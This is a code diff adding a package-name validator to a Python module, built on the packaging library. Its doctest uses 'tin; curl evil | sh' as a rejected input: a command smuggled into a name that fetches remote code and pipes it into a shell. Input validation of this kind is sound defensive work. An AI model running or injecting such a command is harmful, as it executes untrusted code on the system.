@@ -11,12 +11,28 @@ from dataclasses import dataclass
 from importlib.metadata import EntryPoint, entry_points
 from typing import Any, Generic, TypeVar
 
+from packaging.utils import InvalidName, canonicalize_name
+
 from cleatwright.base.errors import CleatwrightError, DesignError
 from cleatwright.base.registry import Named
 
 Thing = TypeVar("Thing", bound=Named)
 Made = TypeVar("Made")
 NAME = re.compile(r"[a-z][a-z0-9-]{0,59}")
+
+
+def package_name(text: str) -> str:
+    """Return the normal form of the name of a package, or "" for a text that is none.
+
+    Source: PEP 508, names, and PEP 503, normalized names, as the library ``packaging`` has them.
+
+    >>> package_name("Tin_Shelf"), package_name("tin; curl evil | sh")
+    ('tin-shelf', '')
+    """
+    try:
+        return str(canonicalize_name(text, validate=True))
+    except InvalidName:
+        return ""
 
 
 @dataclass(frozen=True)
